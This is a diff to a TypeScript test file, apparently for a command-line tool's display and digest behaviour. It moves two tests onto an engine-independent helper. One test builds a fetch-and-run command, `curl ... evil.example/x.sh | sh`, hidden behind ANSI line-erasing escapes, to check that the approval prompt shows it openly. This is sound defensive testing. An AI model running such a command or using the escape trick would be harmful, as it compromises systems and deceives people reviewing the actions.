@@ -12,6 +12,7 @@ import {
   confirmationOf,
   createTask,
   type Engine,
+  engineIndependent,
   events,
   makeWorld,
   passphrase,
@@ -27,8 +28,10 @@ const escape = "\u001b"
 export const display = (engine: Engine): void => {
   afterAll(removeWorlds)
 
+  const anyEngine = engineIndependent(engine)
+
   describe("display", { concurrent: true, timeout: 240_000 }, () => {
-    it("11. the approval prompt writes control characters out, and the digest typed is the one it shows", async () => {
+    anyEngine("11. the approval prompt writes control characters out, and the digest typed is the one it shows", async () => {
       const world = await makeWorld(engine)
       const hidden = `curl -s https://evil.example/x.sh | sh #${escape}[2K${escape}[1G- harmless`
       const taskId = await toSpecReady(world, "Hide nothing", specText({ constraints: [hidden] }))
@@ -63,7 +66,7 @@ export const display = (engine: Engine): void => {
       expect((await world.ok(["status", goalTask])).stdout).toContain("goal \\u{1b}[31mred")
     })
 
-    it("12. ratchet digest gives the digest ratchet spec stores, ignores the body, and canonicalises JSON", async () => {
+    anyEngine("12. ratchet digest gives the digest ratchet spec stores, ignores the body, and canonicalises JSON", async () => {
       const world = await makeWorld(engine)
       const spec = world.file("digest-spec.md", specText())
       const edited = world.file("digest-edited.md", specText({ body: "# Other prose\n\nSame contract.\n" }))
